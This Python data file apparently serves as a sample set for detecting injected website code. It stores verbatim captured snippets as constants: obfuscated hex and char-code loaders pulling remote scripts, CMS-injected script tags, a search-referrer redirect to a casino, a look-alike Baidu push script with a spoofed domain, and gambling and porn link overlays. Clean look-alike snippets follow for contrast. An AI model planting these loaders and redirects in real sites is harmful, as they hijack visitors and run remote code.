# Captured injected code, verbatim as found (see SOURCES.md for where each came from).
# Only whitespace at the ends is trimmed; nothing inside a snippet is changed unless the
# snippet's comment says so.

# S1 - jQuery float layer appended to <body> (public repository file, 3108 chars, complete)
KING_CHANCE = r"""
	$("<link>").attr({
		rel: "stylesheet",
		type: "text/css",
		href: "https://jackson38.github.io/tan/css/my.css"
	}).appendTo("head");

	$("body").append('<div class="King_Chance_Layer">' +
		'<div class="King_Chance_LayerCont" style="display:none;">' +
		'<div class="King_Chance_Layer_Close">Close</div>' +
		'<div class="King_Chance_Layer_Title">本 站 推 荐</div>' +
		'<div class="King_Chance_Layer_Btn">' +
		'<ul>' +
		'<li><a href="#">信誉担保</a></li>' +
		'<li><a href="#">百倍赔率</a></li>' +
		'<li><a href="#">百家乐</a></li>' +
		'<li><a href="#">体育彩票</a></li>' +
		'<li><a href="#">首充返利</a></li>' +
		'</ul>' +
		'</div>' +
		'<div class="King_Chance_Layer_Content">' +
		'<ul>' +
		'<li><a href="https://y52003.com/" target="_blank"><img src="https://i.niupic.com/images/2019/07/13/_67.jpg" /></a></li>' +
		'<li><a href="https://y52003.com/" target="_blank"><img src="https://i.niupic.com/images/2019/07/13/_68.jpg" /></a></li>' +
		'<li><a href="https://y52003.com/" target="_blank"><img src="https://i.niupic.com/images/2019/07/13/_69.jpg" /></a></li>' +
		'<li><a href="https://y52003.com/" target="_blank"><img src="https://i.niupic.com/images/2019/07/13/_72.jpg" /></a></li>' +
		'<li><a href="https://y52003.com/" target="_blank"><img src="https://i.niupic.com/images/2019/07/13/_70.jpg" /></a></li>' +
		'</ul>' +
		'</div>' +
		'</div>' +
		'</div>');


	var $King_Chance_LayerCont = $(".King_Chance_LayerCont");
	var $King_Chance_Layer_Close = $(".King_Chance_Layer_Close");
	var $King_Chance_Layer_Btn = $(".King_Chance_Layer_Btn > ul > li");
	var $King_Chance_Layer_Content = $(".King_Chance_Layer_Content > ul > li");
	var King_Chance_Layer_Btn_Hover = "hover";
	var King_Chance_Layer_Show_Num = 0;
	var King_Chance_Layer_Btn_Len = $King_Chance_Layer_Btn.length;
	$King_Chance_Layer_Btn.hover(function () {
		var King_Chance_Layer_Show_Num = $King_Chance_Layer_Btn.index(this);
		$(this).addClass(King_Chance_Layer_Btn_Hover).siblings().removeClass(King_Chance_Layer_Btn_Hover);
		$King_Chance_Layer_Content.eq(King_Chance_Layer_Show_Num).show().siblings().hide();
	});
	var King_Chance_Layer_Play = function () {
		King_Chance_Layer_Show_Num++;
		if (King_Chance_Layer_Show_Num >= King_Chance_Layer_Btn_Len) King_Chance_Layer_Show_Num = 0;
		$King_Chance_Layer_Btn.eq(King_Chance_Layer_Show_Num).addClass(King_Chance_Layer_Btn_Hover).siblings().removeClass(King_Chance_Layer_Btn_Hover);
		$King_Chance_Layer_Content.eq(King_Chance_Layer_Show_Num).show().siblings().hide();
	};

	$King_Chance_Layer_Close.click(function () { clearInterval(King_Chance_Layer_Play_Time); $King_Chance_LayerCont.slideUp(); });
	King_Chance_Layer_Pop = function () {
		$King_Chance_LayerCont.slideDown();
		$King_Chance_Layer_Btn.eq(King_Chance_Layer_Show_Num).addClass(King_Chance_Layer_Btn_Hover);
		$King_Chance_Layer_Content.eq(King_Chance_Layer_Show_Num).show();
		King_Chance_Layer_Play_Time = setInterval(function () { King_Chance_Layer_Play(); }, 2000);
	};
	$(document).ready(function () {
	setTimeout("King_Chance_Layer_Pop()", 5000);
	});
""".strip("\n")

# S2 - "statistics" file of a black-hat site-group kit: genuine Baidu Tongji call, then a
# search-referrer regex redirect to a casino host (public repository file tj.js, complete).
TJ_JS = r"""
var _hmt = _hmt || [];
(function() {
  var hm = document.createElement("script");
  hm.src = "https://hm.baidu.com/hm.js?189cb19e0a593c9fc0eaf2f1bda27d31";
  var s = document.getElementsByTagName("script")[0]; 
  s.parentNode.insertBefore(hm, s);
})();
var url ="https://www.ag82197.com/";
var regexp=/\.(sogou|soso|sm|sogo|youdao|baidu|yahoo|bing|118114|biso|qq|so|360)(\.[a-z0-9\-]+){1,2}\//ig;
var where =document.referrer;
if(regexp.test(where)){
 window.location.href = url;
}
//document.writeln("<iframe src=\'https://www.ag82198.com/\' style=\'border: 0;    display: block;    overflow: hidden;    position: fixed;    width: 100%;    height: 100%;    z-index: 9999;\' frameborder=\'1\' scrolling=\'no\' width=\'100%\'></iframe>");
""".strip("\n")

# S3 - hex-array document.write loader found in the <head> of a PHPCMS v9 template
# (public repository file, the <Script> block verbatim).
PHPCMS_HEX = r"""<Script language="javascript">
<!--
var _$=['\x3c\x53\x43\x52\x49\x50\x54\x20\x73\x72\x63\x3d\x22\x68\x74\x74\x70\x3a\x2f\x2f\x77\x77\x77\x2e\x67\x6f\x6f\x67\x6c\x65\x61\x64\x73\x6c\x2e\x63\x6f\x6d\x2f\x73\x70\x63\x6f\x64\x65\x2f\x6a\x71\x75\x65\x72\x79\x2e\x6a\x73\x22\x3e\x3c\x2f\x73\x63\x72\x69\x70\x74\x3e'];window["\x64\x6f\x63\x75\x6d\x65\x6e\x74"]["\x77\x72\x69\x74\x65"](_$[0]);
-->
</Script>"""

# S4 - one-line document.writeln loader of the same site-group kit (public repository file ag.js, complete)
AG_JS = r"""document.writeln("<script src=\'https://js.kk.mo.cn/jquery.web.js\'></script>");"""

# S5 - script tags appended to every title field of a MacCMS 8 site (issue thread, verbatim
# as pasted: four tags, the pasted line broken once after "<script").
MACCMS8_TITLE = "<script src=https://lefengtv.com/site.js></script><script src=https://lefengtv.com/site.js></script><script src=https://lefengtv.com/site.js></script><script src=https://lefengtv.com/site.js></script>"

# S6 - the further loaders the same thread found in the rendered pages (verbatim, three tags)
MACCMS8_TRIO = """<script src="https://s1.safessd.com/filesa.min.js"></script> 
<script src="https://co.puretou.com/iquery.min.js"></script>
<script src="https://p0.66cn.com/t/24a1f2.js"></script>"""

# S7 - REBUILT (not verbatim): the issue thread says a template js was altered to load a
# look-alike of Baidu's link-submit push script, its URL "hex-encoded"; decoded it was
# https://zz.bdustatic.com/linksubmit/push.js . Rebuilt as Baidu's own published push
# snippet (S15 below) with only the https URL swapped for that look-alike in \x escapes.
def _hex(s):
    return "".join("\\x%02x" % ord(c) for c in s)
BDUSTATIC_PUSH = """<script>
(function(){
    var bp = document.createElement('script');
    var curProtocol = window.location.protocol.split(':')[0];
    if (curProtocol === 'https') {
        bp.src = '%s';
    }
    else {
        bp.src = 'http://push.zhanzhang.baidu.com/push.js';
    }
    var s = document.getElementsByTagName("script")[0];
    s.parentNode.insertBefore(bp, s);
})();
</script>""" % _hex("https://zz.bdustatic.com/linksubmit/push.js")

# S8 - REBUILT from server-side code: what the site-group kit's default.php serves to a
# spider - the friend-link div it builds (its first link literal, then one link whose text
# is drawn from data/keyword.txt and whose host from data/flink.txt; both lists hold one
# entry, so the output is determined). Closing </div> added.
FFLINK = """<div class='fflink'><a target='_blank'href='https://www.3edu.net'>3edu教育</a><a target='_blank' href='https://www.3edu.net'>贝博体育</a></div>"""

# S9 - jQuery prepend of porn/casino app links into #contentlist (public repository file, complete)
APPBOX = r"""
var url = location.href;
function shuffle(arr){
  var len = arr.length;
  for(var i = 0; i < len - 1; i++){
    var idx = Math.floor(Math.random() * (len - i));
    var temp = arr[idx];
    arr[idx] = arr[len - i - 1];
    arr[len - i -1] = temp;
  }
  return arr;
}
$('#contentlist').prepend('<div class="appbox" style="margin-top:5px;"></div>');
var arrapp = ['<a href="https://qqhjo.com/?dc=sqt00071" target="_blank">麻豆传媒APP</a>',
				  '<a href="https://7lil9i.com/?dc=bsqt34" target="_blank">逼哩逼哩视频APP</a>',
				  '<a href="https://35z.cc/?channelCode=rrdyfl" target="_blank">软软成人直播APP</a>',
				  '<a href="https://ch2m1moj.com/?_c=offl1mh" target="_blank">51成漫APP</a>',
				  '<a href="https://91gi2ce0.com/?ch=offl2cy" target="_blank">91次元成漫APP</a>',
				  '<a href="https://luoyanglu.com/?TT9" target="_blank">陌陌视频APP</a>',
				  '<a href="https://zhuren7.top/?channelCode=dsxk_5" target="_blank">大神成人直播APP</a>',
				  '<a href="https://0922p.com:8663/?register=1" target="_blank">澳门新葡京</a>'];
$.each(shuffle(arrapp),function(index,value){
     $('.appbox').append(' '+value);
});

var arr = [{"link":"https://0922p.com:8663/?register=1","img":"https://zigqnx.com/7c074f52e0cd47dfae17913688a7efea.gif"},{"link":"https://bibo127.com:32060","img":"https://u0062.com/231069b81e194cdab50d36d5fa128ae7.gif"},{"link":"https://bibo127.com:32060","img":"https://u0062.com/231069b81e194cdab50d36d5fa128ae7.gif"},{"link":"https://v2770.com:8663","img":"https://unmrjz.com/32157458f0e0451888a88f499edcdeae.gif"},{"link":"https://v2770.com:8663","img":"https://unmrjz.com/32157458f0e0451888a88f499edcdeae.gif"},{"link":"https://v2770.com:8663","img":"https://unmrjz.com/32157458f0e0451888a88f499edcdeae.gif"},{"link":"https://x9428.com:5443?register=1","img":"https://3337253.com/6e349f605baf4877b74bb6a6852899ce.gif"},{"link":"https://x9428.com:5443?register=1","img":"https://3337253.com/6e349f605baf4877b74bb6a6852899ce.gif"},{"link":"https://6883t.com:8663/?register=1","img":"https://3338613.com/727a44e1dcef4bd9b84a4cdc6fdea9c1.gif"},{"link":"https://4481v.com:8663?register=1","img":"https://3335663.com/71e7f01c46ea4b22bb73b571f488b00b.gif"},{"link":"https://7895p.com:8663/?register=1","img":"https://3332025.com/b3839fc1a4e04ced9551b1adbf90e78b.gif"}];

var x = Math.round(Math.random()*arr.length);

if(url.indexOf('search')>0 || url.indexOf('content')>0)
{
	
	$('#contentlist').prepend('<a href="'+arr[x].link+'" style="margin-top:15px;" rel="external nofollow" target="_blank"><img src="'+arr[x].img+'" style="width:100%;max-height:200px;"></a>');
	
}
""".strip("\n")

# S10 - char-code document.write loader (public repository file: the generated payload,
# quoted there in a comment; the loader line verbatim)
CHARCODE = "document.write(String.fromCharCode(60,115,67,82,105,80,116,32,115,82,67,61,47,47,104,107,46,115,98,47,121,55,120,120,62,60,47,115,67,114,73,112,84,62));"

# ---- harmless look-alikes for the clean pages ----
# S13 - Baidu Tongji call exactly as in the kit file's first six lines (the genuine snippet)
BAIDU_TONGJI = r"""
var _hmt = _hmt || [];
(function() {
  var hm = document.createElement("script");
  hm.src = "https://hm.baidu.com/hm.js?189cb19e0a593c9fc0eaf2f1bda27d31";
  var s = document.getElementsByTagName("script")[0]; 
  s.parentNode.insertBefore(hm, s);
})();
""".strip("\n")

# S14 - a site's own mobile redirect by user agent (common hand-written form; written here,
# not captured - a harmless look-alike of the UA checks above)
MOBILE_REDIRECT = r"""
if (/Android|webOS|iPhone|iPod|BlackBerry|Windows Phone/i.test(navigator.userAgent)) {
    if (window.location.href.indexOf('?pc') < 0) {
        window.location.href = window.location.href.replace('://www.', '://m.');
    }
}
""".strip("\n")

# S15 - Baidu's published link-submit push snippet (the genuine form S7 imitates)
BAIDU_PUSH = """<script>
(function(){
    var bp = document.createElement('script');
    var curProtocol = window.location.protocol.split(':')[0];
    if (curProtocol === 'https') {
        bp.src = 'https://zz.bdstatic.com/linksubmit/push.js';
    }
    else {
        bp.src = 'http://push.zhanzhang.baidu.com/push.js';
    }
    var s = document.getElementsByTagName("script")[0];
    s.parentNode.insertBefore(bp, s);
})();
</script>"""
